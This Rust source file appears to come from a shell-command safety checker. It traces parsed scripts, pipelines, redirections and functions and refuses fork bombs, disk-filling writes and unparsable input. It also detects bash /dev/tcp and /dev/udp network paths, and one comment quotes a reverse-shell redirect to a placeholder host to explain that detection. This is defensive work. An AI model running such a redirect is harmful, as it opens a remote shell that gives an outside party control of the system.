//! Follows a parsed line the way a shell would run it, and refuses at the first danger.

use super::builtins;
use super::compounds::either;
use super::endless;
use super::judge::{Judge, Judged};
use super::parser::{self, Fault};
use super::programs::writing::redirect;
use super::scope::{Attribute, MEANINGS, Scope, Variable};
use super::syntax::{Command, Dialect, Kind, Link, Pipeline, Redirect, Script, Statement};
use super::values::{Data, Field, Origin};
use super::{Refusal, too_complex};
use std::rc::Rc;

impl Judge<'_> {
    /// Judges a text that a shell will run.
    pub(crate) fn text(&mut self, text: &str, dialect: Dialect, scope: &mut Scope) -> Judged {
        self.pay_for_text(text, scope)?;
        self.deeper(|judge| {
            let before = std::mem::replace(&mut judge.dialect, dialect);
            let result = judge.in_text(text, |judge| judge.parsed(text, scope));
            judge.dialect = before;
            result
        })
    }

    fn parsed(&mut self, text: &str, scope: &mut Scope) -> Judged {
        let (script, fault) = parser::parse(text, self.dialect);
        // What stands before the mistake runs before a shell meets it.
        let data = self.script(&script, scope)?;
        match fault {
            None => Ok(data),
            Some(Fault::Syntax(what)) => Err(Refusal::new(
                "unparsable",
                format!("the command is not understood ({what}), so it cannot be judged"),
            )),
            Some(Fault::Bounds) => Err(too_complex()),
        }
    }

    pub(crate) fn script(&mut self, script: &Script, scope: &mut Scope) -> Judged {
        let mut output = Data::Nothing;
        let mut ended = false;
        for statement in &script.statements {
            let data = self.statement(statement, scope)?;
            output = output.then(data);
            // What stands behind an `exit` is judged anyway: the exit may not be reached.
            ended |= std::mem::take(&mut scope.ended);
        }
        scope.ended = ended;
        Ok(output)
    }

    fn statement(&mut self, statement: &Statement, scope: &mut Scope) -> Judged {
        if statement.background {
            let mut fork = self.fork(scope)?;
            fork.forks += 1;
            self.chain(statement, &mut fork)?;
            return Ok(Data::local());
        }
        self.chain(statement, scope)
    }

    /// `a && b || c`: each link may or may not run, so what it changes is one of two possibilities.
    fn chain(&mut self, statement: &Statement, scope: &mut Scope) -> Judged {
        let mut skipped: Option<Scope> = None;
        let mut output = self.pipeline(&statement.first, scope)?;
        for (link, pipeline) in &statement.rest {
            let before = self.fork(scope)?;
            scope.ended = false;
            output = output.then(self.pipeline(pipeline, scope)?);
            // `a || exit && b`: b runs only where the exit did not.
            if scope.ended && *link == Link::Or {
                scope.merge(before);
            } else {
                either(&mut skipped, before);
            }
        }
        if let Some(other) = skipped {
            scope.merge(other);
        }
        Ok(output)
    }

    fn pipeline(&mut self, pipeline: &Pipeline, scope: &mut Scope) -> Judged {
        if let [command] = pipeline.commands.as_slice() {
            return self.command(command, scope);
        }
        let mut flowing = scope.stdin.clone();
        for command in &pipeline.commands {
            let mut stage = self.fork(scope)?;
            stage.forks += 1;
            stage.stdin = flowing;
            flowing = self.command(command, &mut stage)?;
            // What a stage of the pipeline writes is there afterwards.
            scope.files.extend(stage.files);
        }
        Ok(flowing)
    }

    pub(crate) fn command(&mut self, command: &Rc<Command>, scope: &mut Scope) -> Judged {
        self.spend()?;
        match self.one_command(command, scope) {
            Err(refusal) => self.refused_in_part(refusal, Data::local()),
            done => done,
        }
    }

    fn one_command(&mut self, command: &Rc<Command>, scope: &mut Scope) -> Judged {
        if let Kind::Function { name, body } = &command.kind {
            return self.define(name, body, scope);
        }
        let outer = scope.stdin.clone();
        let before = if may_not_run(command) { Some(self.fork(scope)?) } else { None };
        let writes = self.redirects(&command.redirects, scope)?;
        let output = match &command.kind {
            Kind::Simple(simple) => self.simple(simple, scope)?,
            compound => self.compound(compound, scope)?,
        };
        self.pay(output.weight())?;
        scope.stdin = outer;
        if let Some(before) = before {
            self.keeps_doubts(&before, scope)?;
        }
        if writes.is_empty() {
            return Ok(output);
        }
        for (target, append) in &writes {
            // Each file holds a copy.
            self.pay_for_run(std::slice::from_ref(target), scope)?;
            self.pay(output.weight().saturating_mul(scope.directories.len()))?;
            let alone = matches!(&command.kind, Kind::Simple(simple) if simple.words.is_empty());
            let written = if alone { Data::Nothing } else { output.clone() };
            self.note_write(target);
            endless::fills_the_disk(&command.kind, target)?;
            self.perform("", &[], |_, effects| redirect(target, *append, &written, effects), scope)?;
            scope.write_file(target, written, *append);
        }
        // zsh writes to a pipe as well as to the files.
        Ok(if self.dialect == Dialect::Zsh { output } else { Data::Nothing })
    }

    /// Expands the redirections; inputs become what the command reads, outputs are returned.
    fn redirects(&mut self, redirects: &[Redirect], scope: &mut Scope) -> Judged<Vec<(Field, bool)>> {
        let mut writes = Vec::new();
        for redirect in redirects {
            // zsh reads one input after the other, bash the last one.
            let before = match self.dialect {
                Dialect::Zsh => scope.stdin.clone(),
                _ => Data::Nothing,
            };
            match redirect {
                Redirect::Read(word) => {
                    let file = self.one(word, scope)?;
                    scope.stdin = match is_connection(&file) {
                        true => self.connected(&file),
                        false if file.is("/dev/null") => Data::Text(Field::default()),
                        false => scope.file(&file).unwrap_or_else(Data::local),
                    };
                }
                Redirect::Write { target, append } => {
                    for target in self.fields(target, scope)? {
                        // Bash's connections go both ways: `bash >& /dev/tcp/host/port 0>&1` reads its commands there.
                        if is_connection(&target) {
                            scope.stdin = self.connected(&target);
                        }
                        writes.push((target, *append));
                    }
                }
                Redirect::Here(body) => {
                    let word = body.get().cloned().unwrap_or_default();
                    scope.stdin = Data::Text(self.one(&word, scope)?);
                }
                Redirect::Text(word) => scope.stdin = Data::Text(self.one(word, scope)?),
                Redirect::Duplicate(word) => {
                    self.one(word, scope)?;
                    continue;
                }
            }
            scope.stdin = before.then(std::mem::take(&mut scope.stdin));
        }
        Ok(writes)
    }

    fn connected(&mut self, file: &Field) -> Data {
        self.note_connection(file);
        Data::Opaque(Origin::Fetched)
    }

    /// A body is judged where it is defined, with arguments that are not known, and again at each call.
    fn define(&mut self, name: &str, body: &Rc<Command>, scope: &mut Scope) -> Judged {
        scope.functions.insert(name.to_owned(), Rc::clone(body));
        let mut trial = self.fork(scope)?;
        trial.positional = None;
        trial.calls.push((name.to_owned(), trial.forks));
        self.deeper(|judge| judge.command(body, &mut trial))?;
        Ok(Data::Nothing)
    }

    /// Calls a function; one that calls itself beside another process multiplies without end.
    pub(crate) fn call(&mut self, name: &str, arguments: &[Field], scope: &mut Scope) -> Judged {
        if let Some((_, forks)) = scope.calls.iter().find(|(called, _)| called == name) {
            if scope.forks > *forks {
                return Err(Refusal::new(
                    "fork-bomb",
                    format!("the function `{name}` starts itself again in new processes"),
                ));
            }
            return Ok(Data::local());
        }
        let Some(body) = scope.functions.get(name).cloned() else {
            return Ok(Data::Nothing);
        };
        let outer = scope.positional.replace(arguments.to_vec());
        scope.calls.push((name.to_owned(), scope.forks));
        let hidden = std::mem::take(&mut scope.locals);
        let before = self.fork(scope)?;
        let output = self.deeper(|judge| judge.command(&body, scope));
        for (name, value) in std::mem::replace(&mut scope.locals, hidden) {
            uncover(&name, value, scope);
        }
        scope.forget_keys(&before);
        // It may have returned before it came to its end.
        self.keeps_doubts(&before, scope)?;
        scope.calls.pop();
        scope.positional = outer;
        scope.ended = false;
        output
    }
}

/// Whether a command that may change variables does not run where a file cannot be opened.
fn may_not_run(command: &Command) -> bool {
    let opens = |redirect: &Redirect| match redirect {
        Redirect::Read(word) | Redirect::Write { target: word, .. } => {
            word.literal().is_none_or(|file| !file.starts_with("/dev/"))
        }
        Redirect::Duplicate(word) => word.literal().is_none_or(|text| !matches!(text.as_str(), "0" | "1" | "2" | "-")),
        _ => false,
    };
    let changes = match &command.kind {
        Kind::Simple(simple) => simple.words.first().is_none_or(|first| first.bare().is_none_or(builtins::sets)),
        _ => true,
    };
    changes && command.redirects.iter().any(opens)
}

/// A variable of a function is what it was before the call; its last value stays among those that it can have.
fn uncover(name: &str, before: Option<Variable>, scope: &mut Scope) {
    let is_unsure = before.is_none();
    let mut value = before.unwrap_or_default();
    value.extend(scope.variables.get(name).cloned().unwrap_or_default());
    value.truncate(MEANINGS);
    scope.set(name, value);
    if is_unsure {
        scope.mark(name, Attribute::Unsure);
    }
}

/// A connection to the network, by bash's own names for one.
pub(super) fn is_connection(file: &Field) -> bool {
    let name = file.visible();
    name.starts_with("/dev/tcp/") || name.starts_with("/dev/udp/")
}
